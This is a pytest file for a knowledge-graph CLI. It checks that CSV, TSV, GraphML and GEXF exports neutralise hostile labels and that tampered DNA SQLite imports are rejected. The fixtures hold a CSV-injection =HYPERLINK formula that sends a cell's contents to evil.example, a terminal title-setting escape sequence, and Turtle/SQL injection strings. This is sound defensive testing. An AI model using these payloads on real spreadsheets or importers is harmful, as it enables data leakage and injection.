"""Attacks on the exports (issue 10, items 7 and 8): hostile labels must come out as files that
other tools read safely.  A spreadsheet must not run a label as a formula (CSV injection); a
control character must not break GraphML or GEXF, split a TSV row, or reach the terminal raw.

One hostile dataset (the curated data with Norman Lamb's label replaced) serves every test:
one store build, then in-process commands; about 5 s in all.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import networkx as nx
import pytest

from graph.rdf.parse import parse_turtle
from graph.text.sanitise import csv_text, neutralise, tsv_text, xml_safe

from ..helpers import dataset_copy

# A formula that would send a cell to a server, then NUL, SOH, VT, CR, and a terminal escape
# that sets the window title, ended by BEL.
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1)\x00\x01\x0b\r\x1b]0;owned\x07'
TURTLE = ('"=HYPERLINK(\\"http://evil.example/?q=\\"&A1)\\u0000\\u0001\\u000b\\r\\u001b]0;owned\\u0007"')
LAMB = 'kg:norman-lamb a carekg:Person ; rdfs:label "Norman Lamb"'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    pair = [(LAMB, f"kg:norman-lamb a carekg:Person ; rdfs:label {TURTLE}")]
    return dataset_copy(folder, replace={"a000-kings-fund-roundup.ttl": pair, "a001-lamb-confed.ttl": pair})


def run(cli, hostile, *args):
    code, out, err = cli("--data", hostile, *args)
    assert code == 0, err
    return out


def cells(rows):
    return [c for row in rows for c in row]


@pytest.mark.parametrize("table, column", [("stances", 0), ("stance-details", 1)])
def test_stances_csv_neutralises_the_formula_and_keeps_the_rest(cli, hostile, table, column):
    rows = list(csv.reader(io.StringIO(run(cli, hostile, "export", table, "-f", "csv"), newline="")))
    lamb = [r for r in rows if "HYPERLINK" in r[column]]
    assert lamb and all(r[column] == "'" + HOSTILE for r in lamb)
    assert not [c for c in cells(rows) if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_raw_keeps_the_exact_value(cli, hostile):
    rows = list(csv.reader(io.StringIO(run(cli, hostile, "export", "stances", "-f", "csv", "--raw"), newline="")))
    assert HOSTILE in {r[0] for r in rows}


def test_stances_tsv_keeps_one_row_per_line(cli, hostile):
    out = run(cli, hostile, "export", "stances", "-f", "tsv")
    as_csv = list(csv.reader(io.StringIO(run(cli, hostile, "export", "stances", "-f", "csv"), newline="")))
    lines = out.split("\n")[:-1]
    assert len(lines) == len(as_csv)  # a CR in a label does not start a new row
    assert all(len(line.split("\t")) == 8 for line in lines)
    assert "\r" not in out and [c for c in lines if c.startswith("'=HYPERLINK")]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_sparql_results_are_neutralised(cli, hostile, fmt):
    out = run(cli, hostile, "query", "-e", "SELECT ?l WHERE { kg:norman-lamb rdfs:label ?l }", "-f", fmt)
    if fmt == "csv":
        assert list(csv.reader(io.StringIO(out, newline=""))) == [["l"], ["'" + HOSTILE]]
    else:  # SPARQL TSV: a string term, escaped, on one line
        assert out == '?l\n"\'=HYPERLINK(\\"http://evil.example/?q=\\"&A1)\\u0000\\u0001\\u000B\\r\\u001B]0;owned\\u0007"\n'


def test_sparql_tsv_raw_is_the_w3c_term(cli, hostile):
    out = run(cli, hostile, "query", "-e", "SELECT ?l WHERE { kg:norman-lamb rdfs:label ?l }", "-f", "tsv", "--raw")
    assert out.splitlines()[1].startswith('"=HYPERLINK(')


def test_edge_lists_are_neutralised(cli, hostile):
    rows = list(csv.reader(io.StringIO(run(cli, hostile, "discourse", "two-mode", "-f", "csv"), newline="")))
    assert "'" + HOSTILE in cells(rows)
    assert not [c for c in cells(rows) if c.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("layout", ["gephi", "kumu"])
def test_node_and_edge_tables_are_neutralised(cli, hostile, tmp_path, layout):
    run(cli, hostile, "export", "network", "--view", "stances", "-f", "csv", "--layout", layout, "-o", tmp_path / "net.csv")
    for part in ("nodes", "edges"):
        with (tmp_path / f"net-{part}.csv").open(encoding="utf-8", newline="") as f:  # keep the CR inside the cell
            rows = list(csv.reader(f))
        if part == "nodes" or layout == "kumu":  # Kumu joins edges to nodes by label
            assert "'" + HOSTILE in cells(rows)
        assert not [c for c in cells(rows) if c.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("what", [("export", "network", "--view", "network"), ("discourse", "one-mode")])
@pytest.mark.parametrize("fmt, reader", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_network_files_parse_in_networkx_and_an_xml_parser(cli, hostile, tmp_path, what, fmt, reader):
    target = tmp_path / f"net.{fmt}"
    run(cli, hostile, *what, "-f", fmt, "-o", target)
    ET.parse(target)  # any XML reader
    G = reader(target)
    labels = {d.get("label") for _, d in G.nodes(data=True)}
    # The forbidden characters are gone; XML readers turn GraphML's raw CR into LF (GEXF
    # holds labels in attributes, where the CR is written as &#13; and survives).
    kept = xml_safe(HOSTILE)
    assert (kept.replace("\r", "\n") if fmt == "graphml" else kept) in labels


@pytest.mark.parametrize("args", [
    ("query", "-e", "SELECT ?l WHERE { kg:norman-lamb rdfs:label ?l }"),
    ("query", "-e", "SELECT ?l WHERE { kg:norman-lamb rdfs:label ?l }", "-f", "md"),
    ("describe", "kg:norman-lamb"),
    ("coalitions",),
])
def test_terminal_output_shows_escapes_never_raw_controls(cli, hostile, args):
    out = run(cli, hostile, *args)
    assert not set(out) & {"\x00", "\x01", "\x07", "\x0b", "\x1b", "\r"}
    assert "\\x1b]0;owned\\x07" in out


def test_the_shared_writers():
    assert [neutralise(c) for c in ("=1+1", "+A1", "-A1", "@A1", "\tx", "\rx", "-2+3")] == \
        ["'=1+1", "'+A1", "'-A1", "'@A1", "'\tx", "'\rx", "'-2+3"]
    assert [neutralise(c) for c in ("-12.5", "+3", "1e-3", "a=b", "")] == ["-12.5", "+3", "1e-3", "a=b", ""]
    assert csv_text([["a"], ["=x"]], raw=True) == "a\r\n=x\r\n"
    assert tsv_text([["x\r\ny\tz"]]) == "x y z\n"


# --- issue 17: hostile DNA files ---------------------------------------------------------------------

@pytest.fixture
def dna(tmp_path):
    """make(**edits) -> a small DNA file, tampered with SQL: ``loosen`` names tables rebuilt without
    their types and constraints (as any SQLite tool can), ``sql`` the statements run after."""
    import sqlite3
    from datetime import datetime

    from graph.exchange.dna.sqlite import DnaFile, Document, Statement, default_types, write_dna

    def make(name="x.dna", loosen=(), sql=(), text="Councils back pooling budgets."):
        path = tmp_path / name
        doc = Document(1, "Pooling", text, datetime(2015, 6, 1))
        st = Statement(1, "DNA Statement", 1, 9, 29, {"organization": "Councils", "concept": "pooling budgets", "agreement": True})
        write_dna(path, DnaFile(default_types(), [doc], [st]))
        con = sqlite3.connect(path)
        for table in loosen:
            cols = [r[1] for r in con.execute(f"PRAGMA table_info({table})")]
            con.execute(f"ALTER TABLE {table} RENAME TO old")
            con.execute(f"CREATE TABLE {table} ({', '.join(cols)})")
            con.execute(f"INSERT INTO {table} SELECT {', '.join(cols)} FROM old")
            con.execute("DROP TABLE old")
        for statement in sql:
            con.execute(statement)
        con.commit()
        con.close()
        return path
    return make


INJECTED = 'kg:pwned rdfs:label "INJECTED-BY-DNA" .'


@pytest.mark.parametrize("name, sql", [
    ("x.dna", [f"UPDATE SETTINGS SET Value = '3.0.7' || char(10) || '{INJECTED}' || char(10) || '#' WHERE Property = 'version'"]),
    (f"x\n{INJECTED}\n#.dna", []),
    ("x\u2028y\r.dna", [f"UPDATE SETTINGS SET Value = '3.0.7' || char(13) || '{INJECTED}' WHERE Property = 'version'"]),
])
def test_a_dna_version_or_file_name_stays_in_one_comment_line(cli, dna, tmp_path, name, sql):
    path = dna(name, sql=sql)
    code, out, err = cli("import", "dna", path, "-o", tmp_path / "ds")
    assert code == 0, err
    for ttl in (tmp_path / "ds").glob("*.ttl"):  # the name may stand in a literal (a title), never as a triple
        graph = parse_turtle(ttl)
        assert not [s for s in graph.subjects() if str(s).endswith("/pwned")], ttl
        assert "INJECTED-BY-DNA" not in {str(o) for o in graph.objects()}
    head = (tmp_path / "ds" / "sources.ttl").read_text(encoding="utf-8").splitlines()[:2]
    assert all(ln.startswith("# ") for ln in head)


@pytest.mark.parametrize("loosen, sql, message", [
    (["DOCUMENTS"], ["UPDATE DOCUMENTS SET Text = CAST(Text AS BLOB)"], "DOCUMENTS.Text of row 1 is a BLOB, not text"),
    (["STATEMENTS"], ["UPDATE STATEMENTS SET Start = NULL"], "STATEMENTS.Start of row 1 is NULL, not an integer"),
    (["STATEMENTS"], ["UPDATE STATEMENTS SET Stop = 'ten'"], "STATEMENTS.Stop of row 1 is text, not an integer"),
    (["DOCUMENTS"], ["UPDATE DOCUMENTS SET ID = 'one'"], "DOCUMENTS.ID of a row is text, not an integer"),
    ([], ["ALTER TABLE DOCUMENTS ADD COLUMN Big TEXT AS (printf('%.*c', 200000000, 'x'))"],
     "computes its values (DOCUMENTS.Big): DNA writes stored values only; refusing to compute them"),
])
def test_a_dna_column_of_another_type_or_computed_is_one_line(cli, dna, tmp_path, loosen, sql, message):
    path = dna(loosen=loosen, sql=sql)
    code, out, err = cli("import", "dna", path, "-o", tmp_path / "ds")
    assert (code, out, err) == (2, "", f"carekg: error: {path}: {message}" + (": not a DNA file\n" if "of " in message else "\n"))
    assert not (tmp_path / "ds").exists()


def test_a_dna_text_is_capped_as_an_article_text_is(cli, dna, tmp_path, monkeypatch):
    import graph.exchange.dna.sqlite as sqlite

    monkeypatch.setattr(sqlite, "MAX_VALUE", 1000)  # the 16 MB cap, scaled down
    path = dna(text="word " * 300)
    code, out, err = cli("import", "dna", path, "-o", tmp_path / "ds")
    assert (code, out) == (2, "") and err.startswith(f"carekg: error: {path}: a value is larger than 1,000 bytes, the most an "
                                                     "article text may be")


def test_a_dna_file_that_is_a_fifo_is_refused_at_once(cli, tmp_path):
    import os

    os.mkfifo(tmp_path / "x.dna")
    assert cli("import", "dna", tmp_path / "x.dna", "-o", tmp_path / "ds") == (
        2, "", f"carekg: error: {tmp_path / 'x.dna'}: not a regular file (a FIFO): refusing to read it\n")


def test_a_dna_iri_ending_in_a_newline_is_not_kept(cli, dna, tmp_path):
    from graph.exchange.dna.sqlite import read_dna, write_dna

    path = dna()
    data = read_dna(path)
    data.attributes[("DNA Statement", "organization")] = {"Councils": {"IRI": "http://evil.example/x\n"}}
    write_dna(tmp_path / "iri.dna", data)
    code, out, err = cli("import", "dna", tmp_path / "iri.dna", "-o", tmp_path / "ds")
    assert code == 0, err
    things = parse_turtle(tmp_path / "ds" / "things.ttl")
    assert not [s for s in things.subjects() if "evil.example" in str(s)]
